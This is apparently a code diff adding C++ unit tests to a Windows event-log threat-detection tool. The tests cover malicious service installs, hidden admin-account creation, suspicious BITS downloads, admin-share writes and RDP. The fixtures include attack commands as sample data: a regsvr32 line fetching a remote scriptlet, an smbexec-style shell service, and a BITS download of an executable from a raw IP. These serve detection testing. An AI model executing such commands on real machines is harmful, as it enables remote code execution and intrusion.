@@ -12,6 +12,7 @@
 #include "detect/heuristics/windows_commands.h"
 #include "detect/heuristics/windows_persistence.h"
 #include "detect/heuristics/wmi_subscriptions.h"
+#include "support/benign_windows_logs.h"
 #include "support/evtx_events.h"
 #include "support/evtx_writer.h"
 
@@ -196,7 +197,11 @@ TEST(WindowsEvents, ServicesFromDropFoldersAreFoundWhateverTheirName) {
   std::vector<test::EvtxEvent> log = {
       service_installed(1, "Ias", "C:\\Windows\\Fonts\\csrss.exe"),
       service_installed(2, "Updater", "C:\\Windows\\Temp\\upd.exe"),
-      service_installed(3, "xWinWpdSrv", "cmd /c regsvr32 /u /s /i:http://js.example/v.sct scrobj.dll")};
+      service_installed(3, "xWinWpdSrv", "cmd /c regsvr32 /u /s /i:http://js.example/v.sct scrobj.dll"),
+      // impacket's smbexec and PsExec-style tools: a shell as the service; a bare program name.
+      service_installed(5, "BTOBTO",
+                        "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
+      service_installed(6, "remotesvc", "calc.exe")};
   log.push_back(record(4697, "Security", "Microsoft-Windows-Security-Auditing", 4,
                        {{"SubjectUserName", "bob"},
                         {"SubjectDomainName", "CORP"},
@@ -209,9 +214,11 @@ TEST(WindowsEvents, ServicesFromDropFoldersAreFoundWhateverTheirName) {
   std::map<std::string, model::Severity> services;
   for (const auto& f : found)
     if (f.rule_id == kServiceInstalledRule) services[f.observables.front().value] = f.severity;
-  EXPECT_EQ(services, (std::map<std::string, model::Severity>{{"Ias", model::Severity::High},
+  EXPECT_EQ(services, (std::map<std::string, model::Severity>{{"BTOBTO", model::Severity::High},
+                                                              {"Ias", model::Severity::High},
                                                               {"Ias2", model::Severity::High},
                                                               {"Updater", model::Severity::Medium},
+                                                              {"remotesvc", model::Severity::Medium},
                                                               {"xWinWpdSrv", model::Severity::High}}))
       << describe(found);
   const auto* ias = by_rule(found, kServiceInstalledRule);
@@ -369,6 +376,75 @@ TEST(WindowsEvents, SysmonWmiEventsAreJoinedIntoOneSubscription) {
   EXPECT_EQ(wmi->actions.back().target, "c:\\Windows\\debug\\svhost.exe");
 }
 
+TEST(WindowsEvents, SysmonSeesAnAccountCreatedAndMadeAdministrator) {
+  const std::string ch = "Microsoft-Windows-Sysmon/Operational", pv = "Microsoft-Windows-Sysmon";
+  const std::string names = "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\";
+  auto reg = [&](uint16_t id, uint64_t s, const std::string& type, const std::string& target) {
+    return record(id, ch, pv, s,
+                  {{"EventType", type}, {"Image", "C:\\windows\\system32\\lsass.exe"}, {"TargetObject", target}});
+  };
+  const auto found =
+      scan({reg(12, 100, "CreateKey", names + "backup1"), reg(13, 100, "SetValue", names + "backup1\\(Default)"),
+            reg(12, 700, "CreateKey", names + "sqlsvc"),
+            reg(13, 900, "SetValue", "HKLM\\SAM\\SAM\\Domains\\Builtin\\Aliases\\00000220\\C")},
+           "Microsoft-Windows-Sysmon%4Operational.evtx");
+  std::vector<std::string> accounts;
+  for (const auto& f : found)
+    if (f.rule_id == kAccountCreatedAdminRule) accounts.push_back(f.observables.front().value);
+  EXPECT_EQ(accounts, std::vector<std::string>{"sqlsvc"}) << describe(found);
+}
+
+TEST(WindowsEvents, BitsTransfersOutsideTheVendorsUpdates) {
+  auto bits = [](uint64_t s, const std::string& job, const std::string& url) {
+    return record(59, "Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client", s,
+                  {{"transferId", "{2}"}, {"name", job}, {"Id", "{1}"}, {"url", url}, {"peer", ""}});
+  };
+  const auto found =
+      scan({bits(1, "Windows Update", "http://download.windowsupdate.com/c/msdownload/update/x.cab"),
+            bits(2, "update", "http://45.9.148.35/sp.exe"), bits(3, "update", "http://45.9.148.35/sp.exe"),
+            bits(4, "backdoor", "C:\\Windows\\system32\\cmd.exe"),
+            bits(5, "Download LockScreen Image", "https://a.example.net/wall.jpg")},
+           "Microsoft-Windows-Bits-Client%4Operational.evtx");
+  std::map<std::string, model::Severity> jobs;
+  for (const auto& f : found)
+    if (f.rule_id == kBitsTransferRule) jobs[f.title_en.substr(0, f.title_en.find(':'))] = f.severity;
+  EXPECT_EQ(jobs, (std::map<std::string, model::Severity>{{"BITS job Download LockScreen Image", model::Severity::Low},
+                                                          {"BITS job backdoor", model::Severity::Medium},
+                                                          {"BITS job update", model::Severity::Medium}}))
+      << describe(found);
+}
+
+TEST(WindowsEvents, AdminShareWritesAndRemoteAccess) {
+  auto share = [](uint64_t s, const std::string& name, const std::string& access, const std::string& target) {
+    return record(5145, "Security", "Microsoft-Windows-Security-Auditing", s,
+                  {{"SubjectUserName", "Administrator"},
+                   {"SubjectDomainName", "EXAMPLE"},
+                   {"IpAddress", "10.0.2.17"},
+                   {"ShareName", name},
+                   {"RelativeTargetName", target},
+                   {"AccessList", access}});
+  };
+  auto found = scan({share(1, "\\\\*\\C$", "%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t", "Users"),  // reading only
+                     share(2, "\\\\*\\ADMIN$", "%%1538\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n", "PSEXESVC.exe"),
+                     share(3, "\\\\*\\ADMIN$", "%%4417", "PSEXESVC.exe"), share(4, "\\\\*\\IPC$", "%%4417", "svcctl")});
+  std::vector<std::string> titles;
+  for (const auto& f : found)
+    if (f.rule_id == kAdminShareWriteRule) titles.push_back(f.title_en);
+  EXPECT_EQ(titles, std::vector<std::string>{"Files written to \\\\*\\ADMIN$ from 10.0.2.17 by EXAMPLE\\Administrator: "
+                                             "PSEXESVC.exe"})
+      << describe(found);
+
+  const std::string rdp = "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational";
+  found = scan({record(131, rdp, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 1,
+                       {{"ConnType", "TCP"}, {"ClientIP", "10.0.2.16:52202"}}),
+                record(131, rdp, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 2,
+                       {{"ConnType", "TCP"}, {"ClientIP", "10.0.2.16:52210"}})},
+               "RdpCoreTS.evtx");
+  ASSERT_EQ(found.size(), 1u) << describe(found);
+  EXPECT_EQ(found[0].severity, model::Severity::Informational);
+  EXPECT_EQ(found[0].title_en, "RDP connection from 10.0.2.16");
+}
+
 // ---- 11. logs cleared and the Event Log service --------------------------------------------------------------
 
 TEST(WindowsEvents, ClearedLogsAreNamed) {
@@ -422,6 +498,23 @@ TEST(WindowsEvents, TheEventLogServiceStoppedOrDisabled) {
   EXPECT_EQ(titles, (std::vector<std::string>{"The Windows Event Log service was stopped",
                                               "The Windows Event Log service was set to disabled"}))
       << describe(found);
+}
+
+}  // namespace
+}  // namespace msw::detect::heuristics
+
+namespace msw::detect::heuristics {
+namespace {
+
+// The false-alarm side: every benign scenario makes no finding at all through the built-in engines, so `scan`
+// says "No actionable findings" on them (tests/cli checks the verdict line).
+TEST(BenignWindowsLogs, OrdinaryHostsMakeNoFinding) {
+  for (const auto& log : test::benign_windows_logs()) {
+    const auto events = test::evtx_events(test::write_evtx(log.events).bytes, log.name);
+    ASSERT_EQ(events.size(), log.events.size()) << log.name;
+    const auto found = test::builtin_findings(events, log.name);
+    EXPECT_TRUE(found.empty()) << log.name << " (" << log.what << "):" << describe(found);
+  }
 }
 
 }  // namespace
